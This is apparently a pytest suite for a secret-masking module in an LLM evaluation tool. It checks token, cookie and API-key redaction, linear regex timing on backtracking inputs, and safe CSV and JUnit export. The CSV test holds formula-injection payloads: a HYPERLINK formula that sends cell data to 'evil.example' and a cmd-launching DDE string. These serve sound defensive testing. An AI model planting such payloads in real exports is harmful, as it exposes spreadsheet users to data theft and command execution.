"""The secret mask: linear in its text, masking values before they are serialized (so the
files it protects stay readable), and the exports it feeds (CSV, JUnit) safe to open."""

from __future__ import annotations

import contextlib
import csv
import json
import re
import signal
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import pytest

from contextlens.redact import MASK, redact, redact_value
from contextlens.report import write_report
from contextlens.report.items import write_csv
from contextlens.report.junit import write_junit
from contextlens.results import EvalRun, ItemResult
from support.runs import RELEVANCY, synthetic_run

KEY = "sk-curl-secret-0123456789"
CURL = f'curl https://api.example.com/v1/chat -H "Authorization: Bearer {KEY}" -d @body.json'
CURL_ENV = 'curl https://api.example.com/v1/chat -H "Authorization: Bearer $API_KEY"'
#: How long one mask of 1 MB may take here: the budget is 50 ms on an idle machine; the
#: bound is generous so that a loaded machine does not fail the test.
BOUND_S = 0.5
MB = 1 << 20


@contextlib.contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail the test when its body runs longer than ``seconds`` (the regex engine checks
    for signals, so even a backtracking match is stopped)."""

    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"still running after {seconds} s")

    if not hasattr(signal, "SIGALRM"):  # no timer signal here: the time is still checked
        yield
        return
    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def timed(text: str) -> float:
    with deadline(10 * BOUND_S):
        start = time.perf_counter()
        redact(text)
        return time.perf_counter() - start


def repeated(prefix: str, motif: str, size: int) -> str:
    return prefix + motif * ((size - len(prefix)) // len(motif))


# --- time -----------------------------------------------------------------------------------

#: The inputs that backtracked, at the size they were found at, then at 1 MB; and other
#: shapes at 1 MB.
HOSTILE = [
    ("authorization:", " ", 1_514),  # 9.5 s a call before
    ("", "a.", 120_000),  # 17 s before
    ("", "a-", 120_000),
    ("authorization:", " ", MB),
    ('Proxy-Authorization: "', " ", MB),
    ("authorization: bearer", " ", MB),
    ("", "a.", MB),
    ("", "a-", MB),
    ("", "ab.c-d+", MB),
    ("http://", "x", MB),
    ("", "a://", MB),
    ("bearer", " ", MB),
    ("x-api-key", " ", MB),
    ("", "?token=", MB),
    ("", "\u0130 Authorization: Basic ", MB),
    ("", "The shop opens at 9 am. ", MB),
]


@pytest.mark.parametrize(("prefix", "motif", "size"), HOSTILE)
def test_the_mask_is_linear_on_the_inputs_that_made_it_backtrack(prefix, motif, size):
    assert timed(repeated(prefix, motif, size)) < BOUND_S


# --- what is masked -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("http://user:pw-123@host/x", "http://***@host/x"),
        ("see git+https://u:p@h.example/x.git", "see git+https://***@h.example/x.git"),
        ("https://h/p?api_key=K1&x=1", "https://h/p?api_key=***&x=1"),
        ("https://h/p?x=1&token=abc#frag", "https://h/p?x=1&token=***#frag"),
        ("Authorization: Bearer abc.def", "Authorization: Bearer ***"),
        ("Proxy-Authorization: Basic dXNlcjpwYXNz", "Proxy-Authorization: Basic ***"),
        ("authorization=tokenXYZ", "authorization=***"),
        ("{'Authorization': 'Bearer abc'}", "{'Authorization': 'Bearer ***'}"),
        ('{"authorization": "Basic abc"}', '{"authorization": "Basic ***"}'),
        ('-H \\"Authorization: Bearer abc\\"', '-H \\"Authorization: Bearer ***\\"'),
        ('{\\"Authorization\\": \\"Bearer abc\\"}', '{\\"Authorization\\": \\"Bearer ***\\"}'),
        ('"x-api-key": "abc123"', '"x-api-key": "***"'),
        ("api-key=abc123]", "api-key=***]"),
        ("api_key: abc", "api_key: ***"),
        ("they sent bearer abcdefgh12 again", "they sent bearer *** again"),
        ("\u0130 Authorization: Bearer sekrit \u0130", "\u0130 Authorization: Bearer *** \u0130"),
        ("authorization: " + " " * 40, "authorization: " + " " * 40),
        ("a key=value pair, a bearer of news", "a key=value pair, a bearer of news"),
    ],
)
def test_each_kind_of_secret_is_masked_and_ordinary_text_is_not(text, masked):
    assert redact(text) == masked


def test_a_key_from_the_environment_is_masked_wherever_it_is(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    assert redact(f"key={KEY}, again {KEY}.") == "key=***, again ***."
    assert redact_value({KEY: [KEY, 1, None, {"k": f"x{KEY}"}]}) == {
        MASK: [MASK, 1, None, {"k": f"x{MASK}"}]
    }


def test_keys_that_mask_alike_are_kept_apart(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("OTHER_TOKEN", "tok-0123456789")
    masked = redact_value({KEY: 1, "tok-0123456789": 2, MASK: 3})
    assert sorted(masked.values()) == [1, 2, 3] and MASK in masked
    assert KEY not in json.dumps(masked) and "tok-0123456789" not in json.dumps(masked)


def test_u0130_is_the_one_character_whose_lower_case_is_longer():
    """The mask lowers its text and relies on the positions staying put."""
    import sys

    longer = [c for c in range(sys.maxunicode + 1) if len(chr(c).lower()) != 1]
    assert longer == [0x130]


# --- the files it protects ------------------------------------------------------------------


def script_blocks(html: str) -> dict[str, object]:
    """Every ``<script type="application/json">`` of a report, parsed."""
    found = re.findall(r'<script type="application/json" id="([^"]+)">(.*?)</script>', html, re.S)
    assert found
    return {name: json.loads(text) for name, text in found}


def test_the_curl_chunk_leaves_a_run_whose_folder_reopens_and_whose_report_lists_it(
    run_cli, tmp_path, monkeypatch
):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    cases = tmp_path / "cases.jsonl"
    case = {
        "id": "curl-1",
        "input": "How do I call the chat API?",
        "actual_output": f'Run {CURL_ENV} -d "{{}}"',
        "expected_output": "With curl and a bearer token.",
        "retrieval_context": [CURL, CURL_ENV, "https://api.example.com/v1/chat?token=abc]"],
        "meta": {"snippet": CURL_ENV, "call": {"api-key=": 'api-key="k"}', "n": [1]}},
    }
    cases.write_text(json.dumps(case) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    code, text = run_cli("run", cases, "-m", "context-precision", "--out", out, "-q")
    assert code == 0, text
    folder = out / "latest"
    for name in ("results.jsonl", "cases.jsonl"):
        lines = (folder / name).read_text(encoding="utf-8").splitlines()
        assert lines and all(json.loads(line) for line in lines)
    run = EvalRun.from_folder(folder)
    [record] = run.cases().values()
    assert record.case_id == "curl-1"
    assert (
        record.meta["snippet"]
        == 'curl https://api.example.com/v1/chat -H "Authorization: Bearer ***"'
    )
    assert record.meta["call"] == {"api-key=": 'api-key="***"}', "n": [1]}
    assert record.case.retrieval_context[0].startswith("curl https://api.example.com/v1/chat -H")
    assert f"Bearer {MASK}" in record.case.retrieval_context[0]
    blocks = script_blocks((folder / "report.html").read_text(encoding="utf-8"))
    assert "curl-1" in json.dumps(blocks["cl-rows"])
    assert "Bearer ***" in json.dumps(blocks)
    written = b"".join(p.read_bytes() for p in out.rglob("*") if p.is_file())
    assert KEY.encode() not in written and KEY not in text


def test_meta_with_a_header_keeps_the_report_case_explorer_readable(tmp_path):
    run = synthetic_run(3)
    cases = run.cases()
    for i, record in enumerate(cases.values()):
        record.case.meta["header"] = ['Authorization: "Bearer abc"', "?token=x}", "api-key=y]"][i]
    path = write_report(run, tmp_path / "report.html")
    blocks = script_blocks(path.read_text(encoding="utf-8"))
    rows = json.dumps(blocks["cl-rows"])
    assert all(case_id in rows for case_id in cases)
    assert "abc" not in rows and "Bearer ***" in rows


def test_the_lines_ray_workers_send_the_driver_are_masked():
    """The driver writes them to ``results.jsonl`` as they come."""
    pytest.importorskip("ray")
    from contextlens.scale.ray.worker import payload_of

    run = synthetic_run(1)
    item = run.results[0].model_copy(update={"reason": f"it quotes {CURL_ENV} and {{x}}"})
    payload = payload_of(None, [item], {item.case_id: 0}, run.summaries, run.accounting)
    [(_, line)] = payload.lines
    assert json.loads(line)["reason"] == f"it quotes {CURL_ENV.replace('$API_KEY', MASK)} and {{x}}"


# --- JUnit ----------------------------------------------------------------------------------

XML_ILLEGAL = "\ufffe\uffff\x01\x0b\x1f\ud800"


def test_junit_writes_the_characters_xml_cannot_hold_visibly(tmp_path):
    junitparser = pytest.importorskip("junitparser")
    run = synthetic_run(2)
    odd_id = f"case{XML_ILLEGAL}end"
    run.results.append(
        ItemResult(
            case_id=odd_id,
            metric=RELEVANCY,
            score=0.0,
            success=False,
            reason=f"the judge said {XML_ILLEGAL}\nand Authorization: Bearer abc",
        )
    )
    path = write_junit(run, tmp_path / "junit.xml", items=True)
    ET.parse(path)  # the standard library's parser reads it
    xml = junitparser.JUnitXml.fromfile(str(path))
    [suite] = [s for s in xml if s.name == RELEVANCY]
    written = r"\ufffe\uffff\x01\x0b\x1f\ud800"
    [case] = [c for c in suite if c.name == f"case{written}end"]
    [failure] = case.result
    assert failure.text == f"the judge said {written}\nand Authorization: Bearer ***"


# --- CSV ------------------------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(tmp_path):
    run = synthetic_run(2)
    records = list(run.cases().values())
    case = records[0].case
    case.actual_output = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    case.retrieval_context = ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
    case.meta.update({"tab": "\t=1+1", "cr": "\r=1", "minus": "-2+3", "n": -3, "s": "-1.5e3"})
    first = records[0].case_id
    run.results.insert(0, ItemResult(case_id=first, metric="m", score=-0.25, reason="-bad"))
    path = write_csv(run, tmp_path / "items.csv")
    with open(path, encoding="utf-8", newline="") as handle:
        rows = [r for r in csv.DictReader(handle) if r["case_id"] == first]
    row = rows[0]
    assert row["score"] == "-0.25" and row["reason"] == "'-bad"
    assert row["actual_output"] == "'" + case.actual_output
    assert json.loads(row["retrieval_context"]) == case.retrieval_context  # a list, as JSON
    assert (row["meta.tab"], row["meta.cr"], row["meta.minus"]) == ("'\t=1+1", "'\r=1", "'-2+3")
    assert (row["meta.n"], row["meta.s"]) == ("-3", "-1.5e3")  # numbers stay numbers
    starts = ("=", "+", "-", "@", "\t", "\r")
    for r in rows:
        for name, value in r.items():
            assert not value.startswith(starts) or re.fullmatch(r"-[\d.e-]+", value), name
    with open(path, encoding="utf-8", newline="") as handle:
        assert "'" + case.retrieval_context[0] not in handle.read()  # JSON starts with [


def test_csv_and_junit_are_masked_cell_by_cell(tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    run = synthetic_run(2)
    record = next(iter(run.cases().values()))
    record.case.meta["curl"] = CURL
    record.case.retrieval_context = [CURL]
    run.results[0] = run.results[0].model_copy(update={"reason": f"quoted {CURL}"})
    csv_path = write_csv(run, tmp_path / "items.csv")
    junit_path = write_junit(run, tmp_path / "junit.xml", items=True)
    for path in (csv_path, junit_path):
        assert KEY not in Path(path).read_text(encoding="utf-8")
    with open(csv_path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    masked = CURL.replace(KEY, MASK)
    assert rows[0]["meta.curl"] == masked and json.loads(rows[0]["retrieval_context"]) == [masked]
    ET.parse(junit_path)


# --- the leaks of the attack campaign -------------------------------------------------------

#: Each text, as a judge's error, a chunk or a note could hold it, and as it is written. Each
#: leaked (some or all of its secret written) before the mask knew its shape.
LEAKS = [
    # query and form parameters: any name ending in a secret word, the name kept
    ("https://h/cb?client_secret=CLIENTSECRET111&x=1", "https://h/cb?client_secret=***&x=1"),
    ("https://h/cb?a=1&refresh_token=REFRESHTOK222", "https://h/cb?a=1&refresh_token=***"),
    (
        "https://b.s3.amazonaws.com/o?X-Amz-Credential=AKIA%2F1&X-Amz-Signature=f00dbabe&n=1",
        "https://b.s3.amazonaws.com/o?X-Amz-Credential=***&X-Amz-Signature=***&n=1",
    ),
    ("https://h/p?api%5Fkey=PCTKEY333&x=1", "https://h/p?api%5Fkey=***&x=1"),
    ("https://h/p?API%5fKEY=PCTKEY333", "https://h/p?API%5fKEY=***"),
    ("token=PLAINTOK444 and password=PLAINPW555", "token=*** and password=***"),
    ("grant=refresh&client-secret=CS6 pwd=PW7", "grant=refresh&client-secret=*** pwd=***"),
    ("db.passwd=PW8, auth=AU9", "db.passwd=***, auth=***"),
    ("aws_credentials=CRED10 --api-token=T11", "aws_credentials=*** --api-token=***"),
    ("clientSecret=CAMEL12 accessToken=C13", "clientSecret=*** accessToken=***"),
    ("apikey=GLUED14", "apikey=***"),
    # URL user-info: up to the last @ before the host, also without a scheme
    ("https://bob:p@ssAtSIGNPW@host/x", "https://***@host/x"),
    ("https://bob:a@b@c@host", "https://***@host"),
    ("see //user:PROTOREL15@cdn.example/x", "see //***@cdn.example/x"),
    ('src="//u:p@SS16@cdn.example/a.js"', 'src="//***@cdn.example/a.js"'),
    # headers: *-token, *-key, *-secret, *-signature, *-auth, *-credentials; cookies
    ("PRIVATE-TOKEN: glpat-PRIVTOK17", "PRIVATE-TOKEN: ***"),
    ("X-Auth-Token: XAUTH18", "X-Auth-Token: ***"),
    ("Ocp-Apim-Subscription-Key: OCP19", "Ocp-Apim-Subscription-Key: ***"),
    ('-H "X-Client-Secret: CS20"', '-H "X-Client-Secret: ***"'),
    ("X-Amz-Signature: S1\nX-Goog-Auth: Basic GA", "X-Amz-Signature: ***\nX-Goog-Auth: Basic ***"),
    ('{"X-Api-Credentials": "CR23"}', '{"X-Api-Credentials": "***"}'),
    ('{"refresh_token": "RT24", "max_tokens": 40}', '{"refresh_token": "***", "max_tokens": 40}'),
    ("Cookie: session=SESS25; theme=DARK26", "Cookie: session=***; theme=***"),
    ("{'Cookie': 'sid=SID27;csrf=C28'}", "{'Cookie': 'sid=***;csrf=***'}"),
    ("Set-Cookie: id=ID29; Path=/", "Set-Cookie: id=***; Path=***"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "masked"), LEAKS)
def test_each_leak_of_the_attack_campaign_is_masked(text, masked):
    assert redact(text) == masked


@pytest.mark.parametrize(
    "text",
    [
        "The key point: a token budget of 4096 tokens, max_tokens=4096.",
        "monkey=3, MONKEY=4, whiskey=5 and hockey=1; donkey: 2",
        "a key=value pair, a bearer of news, a cookie: chocolate chip",
        "the password field and the secret sauce; auth is required",
        "mail bob@example.com, see http://example.com/a@b and // note @here",
        "if a == b: x=1; url http://host:8080/path?q=1&page=2#top",
        "the signature of the key-holder, token-level F1 and the api key",
    ],
)
def test_ordinary_sentences_are_left_as_they_are(text):
    assert redact(text) == text


def test_json_holding_the_leaks_stays_valid_json_when_masked_as_text():
    for text, _ in LEAKS:
        for dumped in (json.dumps({"k": text, "l": [text, 1]}), json.dumps(text, indent=1)):
            masked = json.loads(redact(dumped))
            assert masked in ({"k": redact(text), "l": [redact(text), 1]}, redact(text))


#: The secrets of :data:`LEAKS`, none of which may reach a file.
LEAKED = [
    "CLIENTSECRET111", "REFRESHTOK222", "f00dbabe", "PCTKEY333", "PLAINTOK444", "PLAINPW555",
    "ssAtSIGNPW", "PROTOREL15", "PRIVTOK17", "XAUTH18", "OCP19", "CS20", "SESS25", "DARK26",
]  # fmt: skip


def test_no_leak_reaches_the_files_of_a_run_the_report_csv_or_the_run_store(
    run_cli, tmp_path, monkeypatch
):
    store = tmp_path / "store" / "runs.sqlite3"
    monkeypatch.setenv("CONTEXTLENS_STORE", str(store))
    texts = [text for text, _ in LEAKS]
    case = {
        "id": "leaks-1",
        "input": "Which of these hold secrets? " + texts[0],
        "actual_output": " ".join(texts[:6]),
        "expected_output": texts[6],
        "retrieval_context": texts,
        "meta": {"note": texts[10], "headers": texts[14:], "Cookie: s=SESS25": 1},
    }
    cases = tmp_path / "cases.jsonl"
    cases.write_text(json.dumps(case) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    code, text = run_cli("run", cases, "-m", "context-precision", "--out", out, "-q")
    assert code == 0, text
    folder = out / "latest"
    for name in ("results.jsonl", "cases.jsonl"):
        lines = (folder / name).read_text(encoding="utf-8").splitlines()
        assert lines and all(json.loads(line) for line in lines)
    run = EvalRun.from_folder(folder)
    [record] = run.cases().values()
    assert record.case.retrieval_context == [masked for _, masked in LEAKS]
    write_csv(run, tmp_path / "items.csv")
    assert store.exists()
    files = [p for root in (out, tmp_path / "store") for p in root.rglob("*") if p.is_file()]
    written = b"".join(p.read_bytes() for p in [*files, tmp_path / "items.csv"])
    assert b"report.html" in b"".join(str(p).encode() for p in files)
    for secret in LEAKED:
        assert secret.encode() not in written and secret not in text, secret
